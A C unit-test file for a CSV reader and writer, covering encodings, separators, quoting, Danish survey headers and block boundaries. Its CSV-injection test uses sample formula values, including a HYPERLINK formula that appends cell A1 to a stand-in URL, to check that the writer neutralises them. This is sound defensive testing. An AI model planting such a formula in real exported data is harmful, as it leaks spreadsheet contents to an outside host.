/* test_csv.c - the CSV reader and writer: separators, encodings, quoting,
 * line numbers, ragged rows, limits, column lookup, block boundaries. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "csv.h"
#include "error.h"

/* Open a reader on a copy of `text` (n bytes); the FILE is closed by done(). */
static struct csv_reader *open_text(const char *text, size_t n, const struct csv_opts *o,
				    FILE **fp, int *rc, struct kerr *e)
{
	struct csv_reader *r = NULL;

	*fp = tmpfile();
	assert_non_null(*fp);
	assert_int_equal(fwrite(text, 1, n, *fp), n);
	rewind(*fp);
	*rc = csv_open(&r, *fp, "t.csv", o, e);
	return r;
}

static void done(struct csv_reader *r, FILE *fp)
{
	csv_close(r);
	fclose(fp);
}

#define OPEN(s, o) open_text((s), sizeof(s) - 1, (o), &fp, &rc, &e)

static void test_excel_semicolon_bom_crlf(void **state)
{
	static const char s[] =
		"\xEF\xBB\xBFRespondent-ID;M\xC3\xA5ling;Svar\r\n"
		"N1;Nulpunkt;\"Tid; og \"\"sagsantal\"\"\r\nanden linje\"\r\n"
		"N2;Midtvejs;\r\n"
		"\r\n"
		"N3;Afslutning;sidst";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(rc, 0);
	assert_int_equal(csv_sep(r), ';');
	assert_int_equal(csv_enc(r), CSV_ENC_UTF8);
	assert_true(csv_had_bom(r));
	assert_int_equal(csv_header_count(r), 3);
	assert_string_equal(csv_header_name(r, 0), "Respondent-ID");
	assert_string_equal(csv_header_name(r, 1), "Måling");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 2);
	assert_int_equal(row.n, 3);
	assert_string_equal(row.field[2], "Tid; og \"sagsantal\"\nanden linje");
	assert_int_equal(row.len[2], strlen(row.field[2]));
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 4);
	assert_string_equal(row.field[2], "");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 6);
	assert_string_equal(row.field[0], "N3");
	assert_string_equal(row.field[2], "sidst");
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	done(r, fp);
}

static void test_separator_detection(void **state)
{
	static const char comma[] = "id,\"a;b;c\",x\n1,2,3\n";
	static const char tab[] = "id\tsvar, med komma\tx\n1\t2\t3\n";
	static const char one[] = "svar\nhej\n";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(comma, NULL);

	(void)state;
	assert_int_equal(csv_sep(r), ',');
	assert_string_equal(csv_header_name(r, 1), "a;b;c");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.n, 3);
	done(r, fp);
	r = OPEN(tab, NULL);
	assert_int_equal(csv_sep(r), '\t');
	assert_int_equal(csv_header_count(r), 3);
	done(r, fp);
	r = OPEN(one, NULL);
	assert_int_equal(csv_header_count(r), 1);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[0], "hej");
	done(r, fp);
}

static void test_windows_1252(void **state)
{
	static const char s[] = "id;M\xE5ling;svar\n1;Midtvejs;\x93" "for travlt\x94 \x96 \xE6\xF8\xE5 \x80\n";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(rc, 0);
	assert_int_equal(csv_enc(r), CSV_ENC_CP1252);
	assert_string_equal(csv_header_name(r, 1), "Måling");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[2], "\u201cfor travlt\u201d \u2013 æøå €");
	done(r, fp);
}

static void test_utf8_then_bad_byte(void **state)
{
	static const char s[] = "id;svar\n1;bl\xC3\xA5\n2;ok\n3;d\xE5rlig\n";
	struct csv_opts o = { .encoding = CSV_ENC_UTF8 };
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[1], "blå");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(csv_next(r, &row, &e), -KERR_ENCODING);
	assert_int_equal(e.line, 4);
	assert_string_equal(e.file, "t.csv");
	assert_non_null(strstr(e.msg, "windows-1252"));
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	done(r, fp);
	/* Forced UTF-8 on a file whose first non-ASCII byte is bad. */
	r = open_text("id\n\xE5\n", 5, &o, &fp, &rc, &e);
	assert_int_equal(rc, 0);
	assert_int_equal(csv_next(r, &row, &e), -KERR_ENCODING);
	assert_int_equal(e.line, 2);
	done(r, fp);
}

static void test_ragged_rows_reported_and_skippable(void **state)
{
	static const char s[] = "a;b;c\n1;2;3\n1;2\n1;2;3;4\n7;8;9\n";
	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .allow_ragged = 1 };
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(csv_next(r, &row, &e), -KERR_SYNTAX);
	assert_int_equal(e.line, 3);
	assert_int_equal(row.n, 2);
	assert_non_null(strstr(e.msg, "2 fields but the header has 3"));
	assert_int_equal(csv_next(r, &row, &e), -KERR_SYNTAX);
	assert_int_equal(e.line, 4);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[2], "9");
	done(r, fp);
	r = OPEN(s, &o);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.n, 2);
	done(r, fp);
}

static void test_limits_and_broken_files(void **state)
{
	static const char big[] = "a;b\n1;0123456789abcdef\n";
	static const char open_quote[] = "a;b\n1;\"never closed\n2;x\n";
	static const char utf32[] = "\xFF\xFE\0\0i\0\0\0";
	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .max_field = 8 };
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(big, &o);

	(void)state;
	assert_int_equal(csv_next(r, &row, &e), -KERR_LIMIT);
	assert_int_equal(e.line, 2);
	done(r, fp);
	r = OPEN(open_quote, NULL);
	assert_int_equal(csv_next(r, &row, &e), -KERR_SYNTAX);
	assert_non_null(strstr(e.msg, "starts on line 2"));
	done(r, fp);
	r = OPEN("", NULL);
	assert_null(r);
	assert_int_equal(rc, KERR_SYNTAX);
	fclose(fp);
	r = OPEN(utf32, NULL);
	assert_null(r);
	assert_int_equal(rc, KERR_ENCODING);
	assert_non_null(strstr(e.msg, "UTF-32"));
	fclose(fp);
	r = OPEN("PK\x03\x04\x14\0\0\0", NULL);
	assert_null(r);
	assert_int_equal(rc, KERR_SYNTAX);
	assert_non_null(strstr(e.msg, "Excel workbook"));
	fclose(fp);
}

/* UTF-16 (Excel "Unicode text") as bytes: the ASCII/Latin-1 `text` widened,
 * little- or big-endian, after a byte-order mark if `bom`. */
static size_t widen(unsigned char *out, const char *text, int le, int bom)
{
	size_t o = 0;

	if (bom) {
		out[o++] = le ? 0xFF : 0xFE;
		out[o++] = le ? 0xFE : 0xFF;
	}
	for (; *text; text++) {
		unsigned char c = (unsigned char)*text;

		out[o++] = le ? c : 0;
		out[o++] = le ? 0 : c;
	}
	return o;
}

static void test_utf16(void **state)
{
	/* an Excel "Unicode text" export: tabs, CRLF, a quoted line break, a
	 * Latin-1 letter (\xE5 = å) */
	static const char text[] = "id\tM\xE5ling\r\n1\t\"to\r\nlinjer\"\r\n2\tx\r\n";
	unsigned char *big, *p;
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc, le, bom;
	size_t n, i;
	struct csv_reader *r;

	(void)state;
	for (le = 0; le <= 1; le++)
		for (bom = 0; bom <= 1; bom++) {
			unsigned char b[128];

			n = widen(b, text, le, bom);
			r = open_text((const char *)b, n, NULL, &fp, &rc, &e);
			assert_int_equal(rc, 0);
			assert_int_equal(csv_sep(r), '\t');
			assert_string_equal(csv_header_name(r, 1), "M\xC3\xA5ling");
			assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
			assert_string_equal(row.field[1], "to\nlinjer");
			assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
			assert_int_equal(row.line, 4);
			assert_string_equal(row.field[1], "x");
			assert_int_equal(csv_next(r, &row, &e), CSV_END);
			done(r, fp);
		}
	/* a surrogate pair (U+1F600) split across the reader's 64 KB blocks */
	big = malloc(200000);
	assert_non_null(big);
	n = widen(big, "id;t\n1;", 1, 1);
	while (n < 65534)
		big[n++] = 'a', big[n++] = 0;
	p = big + n;
	memcpy(p, "\x3D\xD8\x00\xDE", 4);
	n += 4;
	n += widen(big + n, "\n", 1, 0);
	r = open_text((const char *)big, n, NULL, &fp, &rc, &e);
	assert_int_equal(rc, 0);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	i = row.len[1];
	assert_true(i >= 4);
	assert_memory_equal(row.field[1] + i - 4, "\xF0\x9F\x98\x80", 4);
	done(r, fp);
	free(big);
}

static void test_separator_only_rows_and_spaced_names(void **state)
{
	/* Danish Excel: a trailing separator on every line, a formatted empty
	 * row written as separators only, an empty last line */
	static const char s[] = "id;Barrierer for\xC2\xA0implementeringen;\r\n1;a;\r\n;;\r\n2;b;\r\n\r\n";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	size_t idx;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(csv_header_count(r), 3);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[0], "1");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[0], "2");
	assert_int_equal(row.line, 4);
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	/* a no-break space, two spaces or a tab inside a name is one space */
	assert_int_equal(csv_header_find(r, "barrierer for  implementeringen", &idx, &e), 0);
	assert_int_equal(idx, 1);
	assert_true(csv_name_equal("Barrierer\tfor implementeringen", "barrierer for\xC2\xA0implementeringen"));
	assert_false(csv_name_equal("Barrierer forimplementeringen", "barrierer for implementeringen"));
	done(r, fp);
}

static void test_title_lines(void **state)
{
	/* an Excel report saved as CSV: a title and an empty row above the header */
	static const char title[] = "SOF-unders\xC3\xB8gelsen, \"maj\";;;\r\n;;;\r\n"
		"id;M\xC3\xA5ling;Svar;\r\n1;Nulpunkt;hej;\r\n";
	/* row names as R and pandas write them: the first name is empty */
	static const char rnames[] = "\"\",\"Svar\"\n\"1\",\"hej\"\n";
	/* one named column and a trailing separator */
	static const char one[] = "Svar;\nhej;\n";
	static const char qualtrics[] = "ResponseId,Q1\r\nResponse ID,\"Hvad, synes du?\"\r\n"
		"\"{\"\"ImportId\"\":\"\"_recordId\"\"}\",\"{\"\"ImportId\"\":\"\"QID1_TEXT\"\"}\"\r\n"
		"R_1,hej\r\n";
	static const char notq[] = "id,svar\nx,y\n1,ImportId\n";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(title, NULL);

	(void)state;
	assert_int_equal(rc, 0);
	assert_int_equal(csv_header_count(r), 4);
	assert_string_equal(csv_header_name(r, 0), "id");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 4);
	assert_string_equal(row.field[2], "hej");
	done(r, fp);
	r = OPEN(rnames, NULL);
	assert_int_equal(csv_header_count(r), 2);
	assert_string_equal(csv_header_name(r, 1), "Svar");
	done(r, fp);
	r = OPEN(one, NULL);
	assert_string_equal(csv_header_name(r, 0), "Svar");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_string_equal(row.field[0], "hej");
	done(r, fp);
	/* Qualtrics: question texts and ImportIds under the names */
	r = OPEN(qualtrics, NULL);
	assert_string_equal(csv_header_name(r, 0), "ResponseId");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 4);
	assert_string_equal(row.field[0], "R_1");
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	done(r, fp);
	/* a third row naming ImportId in one of its two fields is data */
	r = OPEN(notq, NULL);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 2);
	done(r, fp);
}

static void test_lone_cr_and_text_after_quote(void **state)
{
	static const char s[] = "a,b\r1,\"x\"y\r2,\"p\rq\"\r";
	struct kerr e;
	struct csv_row row;
	FILE *fp;
	int rc;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 2);
	assert_string_equal(row.field[1], "xy");
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.line, 3);
	assert_string_equal(row.field[1], "p\nq");
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	done(r, fp);
}

static void test_header_find(void **state)
{
	static const char s[] = "Respondent-ID; Måling ;Arbejdsfunktion\n";
	struct kerr e;
	FILE *fp;
	int rc;
	size_t i = 99;
	struct csv_reader *r = OPEN(s, NULL);

	(void)state;
	assert_int_equal(csv_header_find(r, "MÅLING", &i, &e), 0);
	assert_int_equal(i, 1);
	assert_int_equal(csv_header_find(r, "Ma\xCC\x8Aling", &i, &e), 0);
	assert_int_equal(i, 1);
	assert_int_equal(csv_header_find(r, "respondent-id", &i, &e), 0);
	assert_int_equal(i, 0);
	assert_int_equal(csv_header_find(r, "Rolle", &i, &e), KERR_NOTFOUND);
	assert_string_equal(e.msg, "no column \"Rolle\"; the columns are: "
			    "\"Respondent-ID\", \" Måling \", \"Arbejdsfunktion\"");
	assert_string_equal(e.path, "Rolle");
	assert_true(csv_name_equal("  ÆØÅ", "æøå"));
	done(r, fp);
	/* Two columns answering to one name: an error naming both. */
	r = OPEN("Svar;ID; svar\n", NULL);
	assert_int_equal(csv_header_find(r, "SVAR", &i, &e), KERR_SCHEMA);
	assert_non_null(strstr(e.msg, "columns 1 (\"Svar\") and 3 (\" svar\")"));
	assert_false(csv_name_equal("aeoeaa", "æøå"));
	done(r, fp);
}

/* Rows that cross the 64 KB block boundary, with a multi-byte letter cut in
 * two by it, come out whole and memory stays bounded. */
static void test_block_boundaries(void **state)
{
	struct kerr e;
	struct csv_row row;
	FILE *fp = tmpfile();
	struct csv_reader *r;
	long i, n = 0;

	(void)state;
	fputs("id;svar\n", fp);
	for (i = 0; i < 30000; i++)
		fprintf(fp, "%ld;\"æ;ø\nå\"\n", i);
	rewind(fp);
	assert_int_equal(csv_open(&r, fp, "big.csv", NULL, &e), 0);
	while (csv_next(r, &row, &e) == CSV_ROW) {
		assert_int_equal(strtol(row.field[0], NULL, 10), n);
		assert_string_equal(row.field[1], "æ;ø\nå");
		assert_int_equal(row.line, 2 + 2 * n);
		n++;
	}
	assert_int_equal(n, 30000);
	done(r, fp);
}

static void test_write_field_roundtrip(void **state)
{
	static const char *vals[] = { "plain", "a;b", "say \"hi\"", "two\nlines", " pad", "", "æøå",
		/* long ones: the bytes that need quoting far into the field */
		"en lang tekst uden noget særligt i", "efter seksten bytes; her",
		"og et \"citat\" sent i feltet" };
	char *text = NULL;
	size_t size = 0, i;
	FILE *out = open_memstream(&text, &size);
	struct kerr e;
	struct csv_row row;
	struct csv_reader *r;
	FILE *fp;
	int rc;

	(void)state;
	for (i = 0; i < 10; i++) {
		if (i)
			putc(';', out);
		assert_int_equal(csv_write_field(out, vals[i], strlen(vals[i]), ';'), 0);
	}
	putc('\n', out);
	fclose(out);
	assert_memory_equal(text, "plain;\"a;b\";\"say \"\"hi\"\"\";\"two\nlines\";\" pad\";;æøå;"
		"en lang tekst uden noget særligt i;\"efter seksten bytes; her\";"
		"\"og et \"\"citat\"\" sent i feltet\"\n", size);
	{
		/* the same row built in memory */
		struct buf b = BUF_INIT;

		for (i = 0; i < 10; i++) {
			if (i)
				assert_int_equal(buf_addch(&b, ';'), 0);
			assert_int_equal(csv_add_field(&b, vals[i], strlen(vals[i]), ';'), 0);
		}
		assert_int_equal(buf_addch(&b, '\n'), 0);
		assert_int_equal(b.len, size);
		assert_memory_equal(b.data, text, size);
		buf_release(&b);
	}
	r = open_text(text, size, NULL, &fp, &rc, &e);
	assert_int_equal(rc, 0);
	assert_int_equal(csv_header_count(r), 10);
	for (i = 0; i < 10; i++)
		assert_string_equal(csv_header_name(r, i), vals[i]);
	assert_int_equal(csv_next(r, &row, &e), CSV_END);
	done(r, fp);
	free(text);
}

/* A CSV cell as a spreadsheet sees it: surrounding quotes removed, doubled
 * quotes single. */
static void unquote(const char *s, char *out)
{
	size_t n = strlen(s), k;

	if (s[0] != '"') {
		strcpy(out, s);
		return;
	}
	for (k = 1; k + 1 < n; k++) {
		*out++ = s[k];
		if (s[k] == '"')
			k++;
	}
	*out = '\0';
}

/* OWASP CSV injection: formulas get an apostrophe, numbers do not, and
 * reading with unguard_formulas gives back exactly what was written. */
static void test_formula_guard_roundtrip(void **state)
{
	static const char *vals[] = {
		"=HYPERLINK(\"http://x/?\"&A1,\"klik\")", "+45 20 30 40 50", "-ikke noget",
		"@SUM(A1)", "\tTAB", "\rCR", "-5", "+3.2", "1,5e3", "-", "'=1", "''@x", "'-5",
		"'plain", "=", "-2+3", "text =1" };
	static const char *want[] = {
		"'=HYPERLINK(\"http://x/?\"&A1,\"klik\")", "'+45 20 30 40 50", "'-ikke noget",
		"'@SUM(A1)", "'\tTAB", "'\rCR", "-5", "+3.2", "1,5e3", "'-", "''=1", "'''@x", "'-5",
		"'plain", "'=", "'-2+3", "text =1" };
	const size_t n = sizeof(vals) / sizeof(*vals);
	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .unguard_formulas = 1 };
	struct buf b = BUF_INIT, one = BUF_INIT;
	struct csv_reader *r;
	struct csv_row row;
	struct kerr e;
	char cell[128];
	FILE *fp;
	size_t i;
	int rc;

	(void)state;
	for (i = 0; i < n; i++) {
		buf_reset(&one);
		assert_int_equal(csv_add_field(&one, vals[i], strlen(vals[i]), ','), 0);
		unquote(one.data, cell);
		assert_string_equal(cell, want[i]);
	}
	for (i = 0; i < n; i++)
		assert_int_equal(buf_addf(&b, "%sh%zu", i ? "," : "", i), 0);
	buf_addch(&b, '\n');
	for (i = 0; i < n; i++) {
		if (i)
			buf_addch(&b, ',');
		assert_int_equal(csv_add_field(&b, vals[i], strlen(vals[i]), ','), 0);
	}
	buf_addch(&b, '\n');
	r = open_text(b.data, b.len, &o, &fp, &rc, &e);
	assert_int_equal(rc, 0);
	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
	assert_int_equal(row.n, n);
	for (i = 0; i < n; i++) {
		/* a CR inside a quoted field reads as LF (csv.h) */
		const char *v = vals[i][0] == '\r' ? "\nCR" : vals[i];

		assert_int_equal(row.len[i], strlen(v));
		assert_string_equal(row.field[i], v);
	}
	done(r, fp);
	buf_release(&b);
	buf_release(&one);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_excel_semicolon_bom_crlf),
		cmocka_unit_test(test_separator_detection),
		cmocka_unit_test(test_windows_1252),
		cmocka_unit_test(test_utf8_then_bad_byte),
		cmocka_unit_test(test_ragged_rows_reported_and_skippable),
		cmocka_unit_test(test_limits_and_broken_files),
		cmocka_unit_test(test_lone_cr_and_text_after_quote),
		cmocka_unit_test(test_utf16),
		cmocka_unit_test(test_title_lines),
		cmocka_unit_test(test_separator_only_rows_and_spaced_names),
		cmocka_unit_test(test_header_find),
		cmocka_unit_test(test_block_boundaries),
		cmocka_unit_test(test_write_field_roundtrip),
		cmocka_unit_test(test_formula_guard_roundtrip),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
